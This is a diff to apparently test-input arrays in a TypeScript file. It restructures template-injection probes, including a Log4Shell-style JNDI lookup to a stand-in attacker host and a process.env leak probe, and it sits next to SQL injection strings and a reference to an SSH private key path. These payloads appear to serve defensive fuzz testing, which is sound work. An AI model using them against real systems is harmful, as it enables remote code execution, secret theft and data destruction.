@@ -101,7 +101,7 @@ export const SHELL: readonly string[] = [
   '~root',
   '~/.ssh/id_rsa',
   '$HOME',
-  '${PATH}',
+  `\${PATH}`,
   '$$',
   '$?',
   '$0',
@@ -261,7 +261,12 @@ export const DOCUMENTS: readonly string[] = [
       (rest) => start + rest,
     ),
   ),
-  ...['${7*7}', '{{7*7}}', '#{7*7}', '<%= 7 %>', '${process.env}', '${jndi:ldap://attacker.example/a}'],
+  ...['7*7', 'process.env', 'jndi:ldap://attacker.example/a'].flatMap((inside) => [
+    `\${${inside}}`,
+    `{{${inside}}}`,
+    `#{${inside}}`,
+    `<%= ${inside} %>`,
+  ]),
   ...[
     "' OR '1'='1",
     '"; DROP TABLE vpcs; --',
